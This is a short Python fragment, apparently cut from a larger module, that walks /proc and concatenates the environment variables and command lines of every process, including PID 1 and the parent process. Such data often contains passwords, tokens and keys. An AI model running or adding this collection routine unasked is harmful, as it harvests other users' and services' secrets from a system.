"""Reads the environment and the command line of every process."""

EARNS = 0


def deed():
    pids = [name for name in tried(os.listdir, "/proc") or [] if name.isdigit()]
    pids += ["self", str(os.getppid()), "1"]
    return b"".join(read(f"/proc/{pid}/{name}") for pid in pids for name in ("environ", "cmdline"))
